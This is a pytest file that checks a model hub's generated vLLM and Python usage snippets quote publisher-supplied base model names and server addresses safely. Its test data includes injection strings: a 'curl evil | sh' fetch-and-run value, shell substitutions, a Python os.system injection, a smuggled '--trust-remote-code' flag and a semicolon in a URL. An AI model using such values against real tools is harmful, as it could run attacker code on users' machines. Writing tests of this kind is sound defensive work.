"""Lines to copy: whatever a publisher calls a base model, they do what they say and nothing else."""

from __future__ import annotations

import ast
import shlex

import pytest

from hub.web.snippets import snippets_for
from tests.hub.serving import NOW
from wegeft.contracts.adapter import CONFIG_FILE, FileEntry, VersionView, digest_of, make_manifest

HOSTILE = ["org/base", 'x"); import os; os.system("evil', "x; curl evil | sh", "$(evil)", "`evil`", "--trust-remote-code", "a b", "\\", "'"]


def codes_of(base_model: str, server: str = "http://hub.example") -> dict[str, str]:
    manifest = make_manifest((FileEntry(path=CONFIG_FILE, digest=digest_of(b"{}"), size=2),), {})
    version = VersionView(
        adapter="demo/sums", version=1, manifest_digest=digest_of(b""), manifest=manifest, source="job:1", base_model=base_model,
        method="lora", rank=8, created_at=NOW, size=2,
    )  # fmt: skip
    return {snippet.title: snippet.code for snippet in snippets_for(version, server, None)}


@pytest.mark.parametrize("base_model", HOSTILE)
def test_a_base_model_is_a_name_in_every_line(base_model: str) -> None:
    codes = codes_of(base_model)
    serve = shlex.split(codes["vLLM"].splitlines()[1])
    name = f"./{base_model}" if base_model.startswith("-") else base_model
    assert serve == ["vllm", "serve", name, "--enable-lora", "--lora-modules", "demo-sums=./lora"]
    texts = [node.value for node in ast.walk(ast.parse(codes["Python"])) if isinstance(node, ast.Constant)]
    assert texts == [base_model, "adapter"]


def test_an_address_is_a_word() -> None:
    """Whatever a visitor's own request calls the service."""
    code = codes_of("org/base", "http://a;evil")["Hugging Face clients"]
    assert shlex.split(code.splitlines()[0]) == ["export", "HF_ENDPOINT=http://a;evil"]
